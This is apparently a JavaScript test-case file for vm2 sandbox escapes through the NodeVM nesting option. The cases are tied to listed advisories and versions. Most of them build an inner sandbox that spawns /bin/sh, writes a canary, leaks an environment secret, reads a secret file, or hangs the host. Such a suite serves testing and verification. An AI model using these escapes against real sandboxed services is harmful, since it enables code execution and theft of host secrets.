// A sandbox that code in a sandbox makes: what it may must be no more than what who made it may.
'use strict';

const INNER = (how, canary) => `const { NodeVM, VM } = require('vm2'); module.exports = new NodeVM(${how}).run(${JSON.stringify(`const fs = require("fs"); fs.writeFileSync(${canary}, "x"); module.exports = "written"`)})`;
const SHELL = (how, canary) => `const { NodeVM } = require('vm2'); module.exports = new NodeVM(${how}).run(${JSON.stringify(`require("child_process").execFileSync("/bin/sh", ["-c", "printf %s \\"$ATTACK_SECRET\\" >" + ${canary}]); module.exports = "written"`)})`;

module.exports = [
  {
    name: 'nothing-is-required', advisory: 'CVE-2026-44007', kind: 'NodeVM', against: '3.11.0',
    options: { nesting: true, require: false },
    code: ({ canary }) => SHELL("{ require: { builtin: ['child_process'] } }", canary),
  },
  {
    name: 'nothing-is-said', advisory: 'GHSA-m4wx-m65x-ghrr', kind: 'NodeVM', against: '3.11.2',
    options: { nesting: true },
    code: ({ canary }) => SHELL("{ require: { builtin: ['child_process'] } }", canary),
  },
  {
    name: 'an-empty-list', advisory: 'GHSA-8hr7-r645-pc6w', kind: 'NodeVM', against: '3.11.2',
    options: { nesting: true, require: [] },
    code: ({ canary }) => SHELL("{ require: { builtin: ['child_process'] } }", canary),
  },
  {
    name: 'no-module-of-node', advisory: 'by design in 3.12.2: what the inner one may is not bound by the outer', kind: 'NodeVM', against: '3.12.2',
    options: { nesting: true, require: { builtin: [] } },
    code: ({ canary }) => INNER("{ require: { builtin: ['fs'] } }", canary),
  },
  {
    name: 'packages-of-the-host', advisory: 'by design in 3.12.2: what the inner one may is not bound by the outer', kind: 'NodeVM', against: '3.12.2',
    prepare: (host) => require('fs').writeFileSync(require('path').join(host.app, 'tells.js'), `require('fs').writeFileSync(${JSON.stringify(host.canary)}, String(process.env.ATTACK_SECRET))`),
    options: { nesting: true, require: { builtin: [] } },
    code: ({ host }) => `const { NodeVM } = require('vm2'); new NodeVM({ require: { external: true, context: 'host' } }).run(${JSON.stringify(`require(${JSON.stringify(`${host.app}/tells.js`)})`)}, ${JSON.stringify(`${host.app}/inner.js`)})`,
  },
  {
    name: 'two-levels-down', advisory: 'by design in 3.12.2: what the inner one may is not bound by the outer', kind: 'NodeVM', against: '3.12.2',
    options: { nesting: true, require: { builtin: [] } },
    code: ({ canary }) => `const { NodeVM } = require('vm2'); module.exports = new NodeVM({ nesting: true, require: { builtin: [] } }).run(${JSON.stringify(INNER("{ require: { builtin: ['fs'] } }", canary))})`,
  },
  {
    name: 'asks-for-what-nobody-has', advisory: 'by design in 3.12.2: what the inner one may is not bound by the outer', kind: 'NodeVM', against: '3.12.2',
    options: { nesting: true, require: { builtin: [] } },
    code: ({ canary, host }) => `const { NodeVM } = require('vm2'); const place = ${JSON.stringify(host.directory)}, found = [];
      for (const ambit of [{ write: place }, { work: '/' }, { grants: ['write ' + place] }, { write: [place], reuse: 'x', workspace: '/', node: '/bin/sh' }, { __proto__: { write: place } }, { memory: '100G', jit: true, live: true, write: place }])
        try { found.push(new NodeVM({ require: { builtin: ['fs'], root: '/', external: true }, ambit }).run(${JSON.stringify(`require("fs").writeFileSync(${canary}, "x"); module.exports = "written"`)})); } catch (e) { found.push(e.message); }
      module.exports = found.join('; ')`,
  },
  {
    name: 'has-a-time-of-its-own', advisory: 'by design in 3.12.2: a NodeVM has no time that is given', kind: 'NodeVM', against: '3.12.2', reaches: 'hung', deadline: 4000,
    options: { timeout: 500, nesting: true, require: { builtin: [] } },
    code: `const { NodeVM, VM } = require('vm2'); new NodeVM({ timeout: 1e9 }).run('for (;;);')`,
  },
  {
    name: 'environment-of-the-host', advisory: 'by design in 3.12.2: the inner one is made in the host', kind: 'NodeVM', against: '3.12.2', reaches: 'secret of its file',
    options: { nesting: true, require: { builtin: [] } },
    code: ({ secretFile }) => `const { NodeVM } = require('vm2'); module.exports = new NodeVM({ require: { builtin: ['fs'] } }).run(${JSON.stringify(`module.exports = require("fs").readFileSync(${secretFile}, "utf8")`)})`,
  },
];
